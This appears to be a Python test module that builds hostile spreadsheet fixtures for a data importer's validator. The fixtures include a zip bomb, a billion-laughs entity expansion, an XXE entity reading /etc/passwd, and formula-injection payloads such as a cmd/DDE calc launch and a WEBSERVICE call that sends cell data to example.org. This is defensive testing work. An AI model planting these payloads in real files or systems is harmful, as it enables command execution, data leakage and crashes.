"""Family 9: workbooks that are bombs or lies, and texts that a spreadsheet would take for formulas."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

from hostile.case import Bytes, Case, Verdict, neutralise, record
from hostile.markup import quoted
from openpyxl import Workbook, load_workbook

#: A sound row, by column. Made up.
ROW = {
    "单位": "南京市知识产权局",
    "编号": "tables-row",
    "标题": "试验市举办银企对接会",
    "摘要": "试验市知识产权局举办一场银企对接会，三家银行到场。",
    "任务": "金融银企对接",
    "发生日期": "2020年6月18日",
    "发布时间": "2020-06-20 09:30",
    "来源1：来源标题": "试验消息",
    "来源1：发布者": "试验市知识产权局",
    "审核人或审核岗位": "测试员",
    "审核日期": "2020/6/20",
}


def book(change: Callable[[Any], None] = lambda _sheet: None, **values: Any) -> bytes:
    """A workbook with one row."""
    made = Workbook()
    sheet: Any = made.active
    sheet.title = "活动亮点"
    row = {**ROW, **values}
    sheet.append(list(row))
    sheet.append(list(row.values()))
    change(sheet)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def rezipped(raw: bytes, change: Callable[[str, bytes], bytes], extra: dict[str, bytes] | None = None) -> bytes:
    """The workbook with its parts changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(part.filename, change(part.filename, old.read(part)))
        for name, content in (extra or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def _sheet(before: bytes, after: bytes) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        return content.replace(before, after) if name == "xl/worksheets/sheet1.xml" else content

    return rezipped(book(), change)


def _filled(wanted: str, tag: bytes) -> bytes:
    """A small file with more elements in one part than a reader gets through in time."""

    def change(name: str, content: bytes) -> bytes:
        return content.replace(b"</", tag * 400_000 + b"</", 1) if name == wanted else content

    return rezipped(book(), change)


def _laughs(name: str, content: bytes) -> bytes:
    if name != "xl/worksheets/sheet1.xml":
        return content
    entities = b'<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    return b"<!DOCTYPE x [" + entities + b"]>" + content.replace("试验消息".encode(), b"&j;")


def _external(name: str, content: bytes) -> bytes:
    if name != "xl/worksheets/sheet1.xml":
        return content
    return b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + content.replace(b"<v>0</v>", b"<v>&x;</v>")


def _unpacked(size: int) -> bytes:
    return rezipped(book(), lambda _name, content: content, {"xl/media/image1.png": bytes(size)})


def _lying() -> bytes:
    """A part that is far larger than the archive's list says."""
    raw = bytearray(_unpacked(80_000_000))
    at = raw.rfind(b"PK\x01\x02")
    raw[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(raw)


def _renamed(before: bytes, after: bytes) -> bytes:
    """The sheet under a name that says nothing of what it is."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            content = old.read(part).replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.dat")
            changed = content.replace(before, after, 1) if part.filename == "xl/worksheets/sheet1.xml" else content
            new.writestr(part.filename.replace("sheet1.xml", "sheet1.dat"), changed)
    return out.getvalue()


def _in_utf16(name: str, content: bytes) -> bytes:
    return content.decode().encode("utf-16") if name == "xl/worksheets/sheet1.xml" else content


def _many_parts() -> bytes:
    return rezipped(book(), lambda _name, content: content, {f"xl/x{n}.xml": b"<a/>" for n in range(3_000)})


def _far(sheet: Any) -> None:
    sheet["XFD1048576"] = "远"


def _rows(sheet: Any) -> None:
    for number in range(4_000):
        sheet.append([f"行{number}"])


def _hidden(sheet: Any) -> None:
    other: Any = sheet.parent.create_sheet("别的")
    other.append(["看得见"])
    sheet.sheet_state = "hidden"


def _saved_as(form: str) -> bytes:
    made = load_workbook(io.BytesIO(book()))
    out = io.BytesIO()
    made.save(out)
    raw = out.getvalue()
    return {"half": raw[: len(raw) // 2], "tail": raw + bytes(100_000), "front": bytes(1_000) + raw[1_000:]}[form]


def _book(name: str, verdict: Verdict, raw: Bytes, code: str = "", line: int = 1) -> Case:
    path = f"tables-{name}.xlsx"
    return Case(f"tables-{name}", verdict, {path: raw}, path, code, line, way="workbook")


NUMBERS: dict[str, Any] = {"本场成效：参加人数": 120}
FORMULAS = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://example.org","甲")',
    "web": '=WEBSERVICE("https://example.org/?"&A1)',
    "import": '=IMPORTXML("https://example.org","//a")',
    "dde": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "macro": "=EXEC(1)",
}
STARTS = {
    "equals": "=1+1 的标题",
    "plus": "+1+1 的标题",
    "minus": "-1+1 的标题",
    "at": "@SUM(1+1) 的标题",
    "command": "=cmd|'/C calc'!A0",
    "tab": "甲\\t=1+1",
    "quote": '"=1+1","乙丙丁"',
    "semicolon": "甲;=1+1;乙",
    "comma": "甲,=1+1,乙",
    "wide-equals": "＝1+1 的标题",
    "wide-at": "＠SUM(1) 的标题",
    "percent": "%0A=1+1 的标题",
}

CASES: tuple[Case, ...] = (
    _book("empty", "refuse", b"", "E701"),
    _book("text", "warn", "标题,摘要\n甲,乙\n".encode(), "W701"),
    _book("old-form", "refuse", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), "E701"),
    _book("html", "refuse", b"<html><table><tr><td>1</td></tr></table></html>", "E701"),
    _book("zip-of-nothing", "refuse", b"PK\x05\x06" + bytes(18), "E701"),
    _book("half", "refuse", _saved_as("half"), "E701"),
    _book("front", "refuse", _saved_as("front"), "E701"),
    _book("large", "refuse", bytes(6_000_000), "E005"),
    _book("bomb", "refuse", lambda: _unpacked(80_000_000), "E005"),
    _book("parts", "refuse", _many_parts, "E005"),
    _book("far-cell", "refuse", lambda: book(_far), "E005"),
    _book("rows", "refuse", lambda: book(_rows), "E005"),
    _book("laughs", "refuse", rezipped(book(), _laughs), "E701"),
    _book("external", "refuse", rezipped(book(), _external), "E701"),
    _book("tags-names", "refuse", lambda: _filled("xl/workbook.xml", b"<definedName/>"), "E005"),
    _book("tags-styles", "refuse", lambda: _filled("xl/styles.xml", b"<xf/>"), "E005"),
    _book("tags-rows", "refuse", lambda: _filled("xl/worksheets/sheet1.xml", b"<row/>"), "E005"),
    _book("row-back", "refuse", _sheet(b'<row r="2"', b'<row r="1"'), "E701"),
    _book("row-nought", "refuse", _sheet(b'<row r="2"', b'<row r="0"'), "E701"),
    _book("row-far", "refuse", _sheet(b'<row r="2"', b'<row r="99999999999999"'), "E701"),
    _book("row-beyond", "refuse", _sheet(b"</sheetData>", b'<row r="1048577" ht="9"/></sheetData>'), "E701"),
    _book("row-last", "accept", _sheet(b"</sheetData>", b'<row r="1048576" ht="9"/></sheetData>')),
    _book("renamed", "accept", _renamed(b"", b"")),
    _book("renamed-row", "refuse", _renamed(b'<row r="2"', b'<row r="99999999999999"'), "E701"),
    _book("renamed-doctype", "refuse", _renamed(b"<worksheet", b"<!DOCTYPE worksheet><worksheet"), "E701"),
    _book("other-encoding", "refuse", rezipped(book(), _in_utf16), "E701"),
    _book("cell-twice", "refuse", _sheet(b'r="B2"', b'r="A2"'), "E701"),
    _book("broken-sheet", "refuse", _sheet(b"</row>", b"</rwo>"), "E701"),
    _book("broken-number", "refuse", _sheet(b'r="B2"', b'r="B2x"'), "E701"),
    _book("no-workbook", "refuse", rezipped(book(), lambda n, c: b"" if n == "xl/workbook.xml" else c), "E701"),
    _book("column-unknown", "warn", book(没有的列="甲"), "W701", 2),
    _book("hidden", "warn", book(_hidden), "W701"),
    _book("control", "refuse", book(标题="试验市\u200b举办对接会"), "E003", 2),
    _book("mobile", "refuse", book(摘要="试验市知识产权局对接会，请拨 13800138000。"), "E602", 2),
    _book("id-up", "refuse", book(编号="../../etc"), "E004", 2),
    _book("id-device", "refuse", book(编号="con"), "E004", 2),
    _book("unit-unknown", "refuse", book(单位="没有的局"), "E307", 2),
    _book("yaml-title", "neutralise", book(标题="试验: [市] {举办} # 会 & *对接 !!python")),
    _book("yaml-lines", "refuse", book(标题="试验市\nid: other"), "E203", 2),
    *(_book(f"formula-{name}", "refuse", book(摘要=text), "E702", 2) for name, text in FORMULAS.items()),
    _book("lying-size", "neutralise", _lying),
    _book("tail", "refuse", _saved_as("tail"), "E701"),
    _book("sound", "accept", book()),
    _book("sound-numbers", "accept", book(lambda sheet: sheet.append([]), **NUMBERS)),
    *(
        neutralise(
            f"tables-start-{name}",
            record(title=quoted(text), summary=quoted(f"{text}，试验市编造。")) + f"place: {quoted(text)}\n",
        )
        for name, text in STARTS.items()
    ),
    *(
        Case(
            f"tables-figure-{name}",
            "neutralise",
            {f"content/figures/nanjing/tables-figure-{name}.yml": _figure.encode()},
            f"content/figures/nanjing/tables-figure-{name}.yml",
        )
        for name, text in STARTS.items()
        for _figure in [
            record(title=quoted(text), event_date=None, theme=None)
            + f"nature: 统计\nscope: {quoted(text)}\nperiod: '2020'\n"
            + f"values:\n  - name: {quoted(text)}\n    value: 12\n    measure: {quoted(text)}\n"
        ]
    ),
)
